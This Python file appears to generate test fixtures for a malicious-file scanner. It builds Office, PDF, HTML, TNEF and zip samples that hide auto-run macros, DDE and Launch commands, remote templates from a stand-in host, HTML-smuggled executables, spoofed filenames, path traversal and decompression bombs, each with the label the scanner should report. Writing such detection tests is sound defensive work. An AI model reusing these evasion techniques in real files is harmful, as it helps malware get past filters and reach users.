"""Documents, pages and names that hide what they do. Each is a name, its content, and what has to be told of it."""

import base64
import binascii
import struct
import zlib

from hostile_files import PROGRAM, Case, ended, entry, local, zipped

FREE, END = 0xffffffff, 0xfffffffe


def module(source):
    """The source of a VBA module, compressed: chunks of literals ([MS-OVBA] 2.4.1)."""
    output = b"\1"
    for start in range(0, len(source), 2048):
        chunk = b"".join(b"\0" + source[at:at + 8] for at in range(start, min(start + 2048, len(source)), 8))
        output += struct.pack("<H", len(chunk) - 1 | 0xb000) + chunk
    return output


def compound(streams):
    """A compound file ([MS-CFB]); each stream is a path and content. Streams are in sectors of the common size."""
    nodes = [["Root Entry", None, []]]
    for path, content in streams:
        parent = 0
        for place, name in enumerate(path):
            known = next((child for child in nodes[parent][2] if nodes[child][0] == name), None)
            if known is None:
                nodes.append([name, content if place == len(path) - 1 else None, []])
                known = len(nodes) - 1
                nodes[parent][2].append(known)
            parent = known
    sectors, table = b"", []

    def store(content):
        nonlocal sectors
        start, count = len(table), max(1, -(-len(content) // 512))
        table.extend(range(start + 1, start + count))
        table.append(END)
        sectors += content.ljust(count * 512, b"\0")
        return start
    starts = [END if content is None else store(content) for _, content, _ in nodes]
    sibling = {one: other for _, _, children in nodes for one, other in zip(children, children[1:])}
    directory = b""
    for index, (name, content, children) in enumerate(nodes):
        text = name.encode("utf-16-le")
        directory += (text.ljust(64, b"\0") + struct.pack("<HBB", len(text) + 2, 5 if index == 0 else 1 if content is None else 2, 1)
                      + struct.pack("<III", FREE, sibling.get(index, FREE), children[0] if children else FREE) + bytes(36)
                      + struct.pack("<III", starts[index], len(content or b""), 0))
    directory_at = store(directory)
    table_at = len(table)
    blocks = -(-(len(table) + 1) // 128)
    table += [0xfffffffd] * blocks
    packed = b"".join(struct.pack("<I", entry) for entry in table).ljust(512 * blocks, b"\xff")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3e, 3, 0xfffe, 9, 6) + bytes(10)
              + struct.pack("<IIIIIIIII", blocks, directory_at, 0, 0, END, 0, END, 0, table_at)
              + b"".join(struct.pack("<I", table_at + n) for n in range(1, blocks)))
    return header.ljust(512, b"\xff") + sectors + packed


SOURCE = b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nShell \"cmd /c calc\"\r\nEnd Sub\r\n"
PROJECT = compound([(["VBA", "dir"], b"\1\0\0"), (["VBA", "_VBA_PROJECT"], b"\xcc\x61\xff\xff"),
                    (["VBA", "ThisDocument"], module(SOURCE)), (["PROJECT"], b"ID=\"{0}\"\r\n")])
TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%s</Types>'
RELATIONS = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s'
             b"</Relationships>")
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MICROSOFT = b"http://schemas.microsoft.com/office/2006/relationships/"
BODY = b'<?xml version="1.0"?><w:document xmlns:w="w"><w:body/></w:document>'


def relation(kind, target, outside=False, base=OFFICE):
    return (b'<Relationship Id="r1" Type="' + base + kind + b'" Target="' + target
            + (b'" TargetMode="External"/>' if outside else b'"/>'))


def word(*members, folder="word", types="[Content_Types].xml"):
    return zipped((types, TYPES % b""), ("_rels/.rels", RELATIONS % relation(b"officeDocument", folder.encode() + b"/document.xml")),
                  (f"{folder}/document.xml", BODY), *members)


def office():
    autorun = "autorun-macro"
    yield Case("usual.docm", word(("word/vbaProject.bin", PROJECT)), autorun)
    yield Case("odd-path.docm", word(("customXml/deep/er/vbaProject.bin", PROJECT)), autorun)
    named = RELATIONS % relation(b"vbaProject", b"media/image1.png", base=MICROSOFT)
    yield Case("odd-name.docm", word(("word/_rels/document.xml.rels", named), ("word/media/image1.png", PROJECT)), autorun)
    yield Case("odd-name-first.docm", zipped(("word/media/a.dat", PROJECT), ("[Content_Types].xml", TYPES % b""),
                                             ("word/document.xml", BODY), ("word/_rels/document.xml.rels", RELATIONS
                                              % relation(b"vbaProject", b"media/a.dat", base=MICROSOFT))), autorun)
    yield Case("capitals.docm", word(("word/VBAPROJECT.BIN", PROJECT), types="[content_types].XML"), autorun)
    yield Case("other-folder.docx", word(("letter/_rels/settings.xml.rels", RELATIONS % relation(
        b"attachedTemplate", b"http://evil.example/t.dotm", True)), folder="letter"), "remote-content")
    yield Case("other-folder-dde.docx", zipped(
        ("[Content_Types].xml", TYPES % b""), ("_rels/.rels", RELATIONS % relation(b"officeDocument", b"a/b.xml")),
        ("a/b.xml", b'<w:document><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k calc"/></w:document>')), "dde")
    utf16 = (RELATIONS % relation(b"attachedTemplate", b"http://evil.example/t.dotm", True)).decode().replace(
        'version="1.0"', 'version="1.0" encoding="UTF-16"')
    yield Case("utf16.docx", word(("word/_rels/settings.xml.rels", utf16.encode("utf-16"))), "remote-content")
    entities = RELATIONS % relation(b"attached&#84;emplate", b"&#104;ttp://evil.example/t.dotm", True)
    yield Case("entities.docx", word(("word/_rels/settings.xml.rels", entities)), "remote-content")
    yield Case("old.doc", compound([(["WordDocument"], bytes(512)), (["Macros", "VBA", "dir"], b"\1\0\0"),
                                    (["Macros", "VBA", "_VBA_PROJECT"], b"\xcc\x61\xff\xff"),
                                    (["Macros", "VBA", "ThisDocument"], module(SOURCE))]), autorun)
    yield Case("old-in-disguise.jpg", compound([(["WordDocument"], bytes(512)), (["Macros", "VBA", "dir"], b"\1\0\0"),
                                                (["Macros", "VBA", "ThisDocument"], module(SOURCE))]), autorun)
    # What is a document to one program is an archive to another, which shows all that is in it.
    yield Case("document.zip", zipped(("[Content_Types].xml", TYPES % b""), ("word/document.xml", BODY), ("invoice.exe", PROGRAM)),
               program=True)
    yield Case("document.docx", word(("word/media/invoice.exe", PROGRAM)), program=True)
    yield Case("book.epub", zipped(("mimetype", b"application/epub+zip"), ("META-INF/container.xml", b"<c/>"), ("a.exe", PROGRAM)),
               program=True)
    yield Case("sheet.zip", zipped(("mimetype", b"x"), ("content.xml", b"<c/>"), ("a/b.scr", PROGRAM)), program=True)
    yield Case("prefix.zip", b"Dear all,\r\n" + zipped(("invoice.exe", PROGRAM)), program=True)
    yield Case("prefix.bin", bytes(range(256)) * 8 + zipped(("invoice.exe", PROGRAM)), program=True)
    yield Case("suffix.zip", zipped(("invoice.exe", PROGRAM)) + bytes(100_000), program=True)
    first = zipped(("harmless.txt", b"hello"))
    yield Case("behind.zip", first + zipped(("invoice.exe", PROGRAM)), program=True)


# MARK: - PDF

def pdf(*objects):
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\ntrailer <</Root 1 0 R>>\n%%EOF\n"


CATALOG = b"1 0 obj <</Type/Catalog/OpenAction 5 0 R>> endobj"
ACTION = b"<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>"


def stream(dictionary, content):
    return b"7 0 obj <<" + dictionary + b"/Length %d>>\nstream\n" % len(content) + content + b"\nendstream endobj"


def objects_in(filters, pack, content=ACTION, parameters=b""):
    return stream(b"/Type/ObjStm/N 1/First 4/Filter" + filters + parameters, pack(b"5 0 " + content))


def ascii85(content):
    return base64.a85encode(content) + b"~>"


def lzw(content):
    """LZW as PDF has it (ISO 32000-2 §7.4.4.2): codes of 9 to 12 bits, wider one code early."""
    bits, table, width, text = [], {}, 9, b""

    def write(code):
        bits.append(format(code, f"0{width}b"))
    write(256)
    for byte in content:
        if text + bytes([byte]) in table or not text:
            text += bytes([byte])
            continue
        write(table[text] if len(text) > 1 else text[0])
        table[text + bytes([byte])] = 258 + len(table)
        text = bytes([byte])
        if 258 + len(table) >= 4094:
            write(256)
            table, width = {}, 9
        else:
            width = 9 + (258 + len(table) >= 512) + (258 + len(table) >= 1024) + (258 + len(table) >= 2048)
    if text:
        write(table[text] if len(text) > 1 else text[0])
    write(257)
    joined = "".join(bits)
    joined += "0" * (-len(joined) % 8)
    return bytes(int(joined[at:at + 8], 2) for at in range(0, len(joined), 8))


def run_lengths(content):
    return b"".join(bytes([len(content[at:at + 128]) - 1]) + content[at:at + 128]
                    for at in range(0, len(content), 128)) + b"\x80"


def predicted(content, columns=16):
    """Deflated, each row as the difference from the one above (PNG's filter 2)."""
    content += b" " * (-len(content) % columns)
    rows, above = b"", bytes(columns)
    for at in range(0, len(content), columns):
        row = content[at:at + columns]
        rows += b"\2" + bytes((byte - over) & 0xff for byte, over in zip(row, above))
        above = row
    return zlib.compress(rows)


def documents():
    script, launch = "pdf-script", "pdf-launch"
    yield Case("plain.pdf", pdf(CATALOG, b"5 0 obj " + ACTION + b" endobj"), script)
    yield Case("escaped.pdf", pdf(CATALOG, b"5 0 obj <</S/#4a#61vaScr#69pt/J#53(x)>> endobj"), script)
    yield Case("launch.pdf", pdf(CATALOG, b"5 0 obj <</S/L#61unch/F(cmd.exe)>> endobj"), launch)
    yield Case("stream.pdf", pdf(CATALOG, objects_in(b"/FlateDecode", zlib.compress)), script)
    yield Case("short-name.pdf", pdf(CATALOG, objects_in(b"/Fl", zlib.compress)), script)
    yield Case("launch-in-stream.pdf", pdf(CATALOG, objects_in(b"[/FlateDecode]", zlib.compress, b"<</S/Launch/F(cmd)>>")), launch)
    yield Case("hexadecimal.pdf", pdf(CATALOG, objects_in(b"/ASCIIHexDecode", lambda text: binascii.hexlify(text) + b">")), script)
    yield Case("chained.pdf", pdf(CATALOG, objects_in(
        b"[/ASCIIHexDecode/FlateDecode]", lambda text: binascii.hexlify(zlib.compress(text)) + b">")), script)
    yield Case("base85.pdf", pdf(CATALOG, objects_in(b"[/ASCII85Decode/Fl]", lambda text: ascii85(zlib.compress(text)))), script)
    yield Case("lzw.pdf", pdf(CATALOG, objects_in(b"/LZWDecode", lzw)), script)
    # Enough before it that codes of every width are needed, and the table is full once.
    filler = b" ".join(b"%d" % (number * number % 9973) for number in range(12_000)) + b" "
    yield Case("long-lzw.pdf", pdf(CATALOG, objects_in(b"/LZWDecode", lzw, filler + ACTION)), script)
    yield Case("runs.pdf", pdf(CATALOG, objects_in(b"/RunLengthDecode", run_lengths)), script)
    yield Case("twice.pdf", pdf(CATALOG, objects_in(b"[/Fl/Fl]", lambda text: zlib.compress(zlib.compress(text)))), script)
    yield Case("predicted.pdf", pdf(CATALOG, objects_in(
        b"/FlateDecode", predicted, parameters=b"/DecodeParms<</Predictor 12/Columns 16>>")), script)
    # A reader that goes by the table of objects does not care what stands before one.
    yield Case("comment.pdf", pdf(CATALOG, b"% 5 0 obj " + ACTION + b" endobj"), script)
    yield Case("string.pdf", pdf(CATALOG, b"(5 0 obj <</S/JavaScript/JS<61>>> endobj)"), script)
    yield Case("in-other-stream.pdf", pdf(CATALOG, stream(b"", b"5 0 obj " + ACTION + b" endobj")), script)
    yield Case("form.pdf", pdf(b"1 0 obj <</AcroForm<</XFA 7 0 R>>>> endobj", stream(
        b"/Filter/Fl", zlib.compress(b'<xdp><event activity="initialize"><script contentType="application/x-javascript">'
                                     b"app.alert(1)</script></event></xdp>"))), script)
    yield Case("empty-stream.pdf", pdf(b"1 0 obj <</Type/ObjStm/Filter/FlateDecode>>\nstream\nendstream endobj"))
    yield Case("endless.pdf", pdf(CATALOG, b"(" * 2_000_000))
    yield Case("open.pdf", pdf(CATALOG, b"1 0 obj <</Length 9>>\nstream\n" * 200_000))
    yield Case("bomb.pdf", pdf(CATALOG, *[objects_in(b"/Fl", zlib.compress, bytes(32 << 20))] * 200), "limit", "bomb")


# MARK: - Pages

def pages():
    told = "html-smuggling"
    data = base64.b64encode(PROGRAM * 40)
    yield Case("blob.html", b"<script>var b=atob('" + data + b"');var u=URL.createObjectURL(new Blob([b]));"
               b"a.href=u;a.download='x.exe';a.click()</script>", told)
    yield Case("data.html", b"<a href='data:application/octet-stream;base64," + data + b"' download='x.exe'>x</a>", told)
    yield Case("percent.html", b"<a download=x.exe href='data:application/octet-stream," + b"".join(b"%%%02x" % byte for byte in PROGRAM)
               + b"'>x</a>", told)
    yield Case("saver.html", b"<script>navigator.msSaveBlob(new Blob([atob('" + data + b"')]),'x.iso')</script>", told)
    yield Case("pieces.html", b"<script>var d='" + b"'+'".join(data[at:at + 60] for at in range(0, len(data), 60))
               + b"';var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);location.href=URL.createObjectURL(b)</script>",
               told)
    yield Case("indirect.html", b"<script>var w=window;w['a'+'tob'](d);new w['Bl'+'ob']([d]);w.URL['create'+'ObjectURL'](x);var d='"
               + data + b"'</script>", told)
    yield Case("worker.html", b"<html><body onload=\"go()\"><img id=d alt='" + data + b"'><script>function go(){var s=atob(d.alt);"
               b"document.write(s)}</script></body></html>", told)
    yield Case("utf16.html", ("<script>var b=atob('" + data.decode() + "');var u=URL.createObjectURL(new Blob([b]));"
                              "a.download='x.exe'</script>").encode("utf-16"), told)
    yield Case("page.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"var b=new Blob([atob('" + data
               + b"')])\"><script>1</script></svg>", "svg-script")
    yield Case("page.xhtml", b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>var u=URL.createObjectURL("
               b"new Blob([atob('" + data + b"')]))</script></html>", told)
    yield Case("numbers.html", b"<script>var n=[" + b",".join(b"%d" % byte for byte in PROGRAM * 20)
               + b"];var b=new Blob([new Uint8Array(n)]);a.href=URL.createObjectURL(b);a.download='x.exe'</script>", told)


# MARK: - TNEF

def tnef(*files):
    """What Outlook packs attachments into: attributes of a level, an id, a length, and a sum."""
    def attribute(level, kind, data):
        return struct.pack("<BII", level, kind, len(data)) + data + struct.pack("<H", sum(data) & 0xffff)
    return struct.pack("<IH", 0x223e9f78, 1) + attribute(1, 0x00089006, struct.pack("<I", 0x10000)) + b"".join(
        attribute(2, 0x00069002, bytes(14)) + attribute(2, 0x00018010, name + b"\0") + attribute(2, 0x0006800f, content)
        for name, content in files)


def streams():
    yield Case("winmail.dat", tnef((b"a.txt", b"hello"), (b"invoice.exe", PROGRAM)), program=True)
    yield Case("zipped.dat", tnef((b"a.zip", zipped(("b.scr", PROGRAM)))), program=True)
    yield Case("winmail.zip", zipped(("winmail.dat", tnef((b"invoice.pdf.exe", PROGRAM)))), "double-extension", program=True)
    yield Case("nested.dat", nested(), "too-deep")
    yield Case("many.dat", tnef(*[(b"a", b"x")] * 20_000), "limit", "unreadable")
    yield Case("long.dat", tnef((b"a.exe", PROGRAM))[:-40] + struct.pack("<BII", 2, 0x0006800f, 0xfffffff0) + b"x", "unreadable")


def nested(depth=200):
    content = PROGRAM
    for _ in range(depth):
        content = tnef((b"winmail.dat", content))
    return content


# MARK: - Names

def names():
    """Fields of a part whose name is a program's, as one reader or another sees it."""
    encoded = base64.b64encode("invoice\u202efdp.exe".encode()).decode()
    return {
        "plain": 'attachment; filename="invoice.exe"',
        "split": 'attachment; filename*0="invoice.p"; filename*1="df.e"; filename*2="xe"',
        "split and encoded": "attachment; filename*0*=utf-8''invoice%2E; filename*1*=%65%78; filename*2=e",
        "splits out of order": 'attachment; filename*1=".exe"; filename*0="invoice"',
        "a gap in the splits": 'attachment; filename*0="invoice.exe"; filename*2=".txt"',
        "both forms": "attachment; filename=\"invoice.txt\"; filename*=utf-8''invoice.exe",
        "twice": 'attachment; filename="invoice.txt"; filename="invoice.exe"',
        "turned round": f'attachment; filename="=?utf-8?B?{encoded}?="',
        "turned round, percent": "attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe",
        "encoded word": 'attachment; filename="=?utf-8?Q?invoice=2Eexe?="',
        "encoded words": 'attachment; filename="=?utf-8?Q?invoice=2E?= =?utf-8?Q?exe?="',
        "encoded word without quotes": "attachment; filename==?utf-8?Q?invoice=2Eexe?=",
        "trailing dots": 'attachment; filename="invoice.exe..."',
        "trailing spaces": 'attachment; filename="invoice.exe   "',
        "trailing no-break spaces": "attachment; filename*=utf-8''invoice.exe%C2%A0%C2%A0",
        "double": 'attachment; filename="invoice.pdf.exe"',
        "double, padded": 'attachment; filename="invoice.pdf' + " " * 100 + '.exe"',
        "NUL": "attachment; filename*=utf-8''invoice.exe%00.txt",
        "overlong": "attachment; filename*=utf-8''invoice%C0%AEexe",
        "full-width dot": "attachment; filename*=utf-8''invoice%EF%BC%8Eexe",
        "full-width letters": "attachment; filename*=utf-8''invoice.%EF%BD%85%EF%BD%98%EF%BD%85",
        "zero width": "attachment; filename*=utf-8''invoice.e%E2%80%8Bxe",
        "UTF-16": "attachment; filename*=utf-16be''%00i%00n%00v%00.%00e%00x%00e",
        "UTF-7": "attachment; filename*=utf-7''invoice%2BAC4-exe",
        "CP437": "attachment; filename*=cp437''r%82sum%82.exe",
        "KOI8-R": "attachment; filename*=koi8-r''%D3%DE%C5%D4.exe",
        "raw Latin-1": b'attachment; filename="r\xe9sum\xe9.exe"',
        "raw NUL": b'attachment; filename="invoice.exe\0.txt"',
        "folded": 'attachment;\r\n filename="invoice\r\n .exe"',
        "comment": 'attachment; filename=(a comment)"invoice.exe"',
        "escaped": 'attachment; filename="invoice\\.e\\xe"',
        "no quotes": "attachment; filename=invoice and more.exe",
        "no closing quote": 'attachment; filename="invoice.exe',
        "no semicolon": 'attachment filename="invoice.exe"',
        "capitals": 'ATTACHMENT; FILENAME="INVOICE.EXE"',
        "spaces round the sign": 'attachment; filename = "invoice.exe"',
        "a folder": 'attachment; filename="a/b\\invoice.exe"',
        "a stream": 'attachment; filename="invoice.exe:x.txt"',
        "a class": 'attachment; filename="invoice.{00021401-0000-0000-C000-000000000046}"',
    }


def packed_names():
    """Zip files whose member has such a name."""
    def named(name, flags=0, local_name=None):
        checksum = zlib.crc32(PROGRAM)
        return ended(local(local_name or name, PROGRAM, len(PROGRAM), checksum, method=0, flags=flags),
                     [entry(name, len(PROGRAM), len(PROGRAM), checksum, 0, method=0, flags=flags)])
    yield Case("cp437.zip", named(b"r\x82sum\x82.exe"), program=True)
    yield Case("utf8.zip", named("инвойс.exe".encode(), 0x800), program=True)
    yield Case("overlong.zip", named(b"invoice\xc0\xaeexe", 0x800), program=True)
    yield Case("broken.zip", named(b"invoice\xff\xfe.exe", 0x800), program=True)
    yield Case("nul.zip", named(b"invoice.exe\0.txt"), "hidden-name", program=True)
    yield Case("nul-behind.zip", named(b"invoice.txt\0.exe"), "hidden-name", program=True)
    yield Case("turned.zip", named("invoice\u202efdp.exe".encode(), 0x800), "hidden-name", program=True)
    yield Case("trailing.zip", named(b"invoice.exe . ."), "hidden-name", program=True)
    yield Case("double.zip", named(b"invoice.pdf.exe"), "double-extension", program=True)
    yield Case("up.zip", named(b"../../invoice.exe"), "path-escape", program=True)
    yield Case("windows-up.zip", named(b"..\\..\\invoice.exe"), "path-escape", program=True)
    yield Case("two-names.zip", named(b"invoice.txt", local_name=b"invoice.exe"), "ambiguous", program=True)
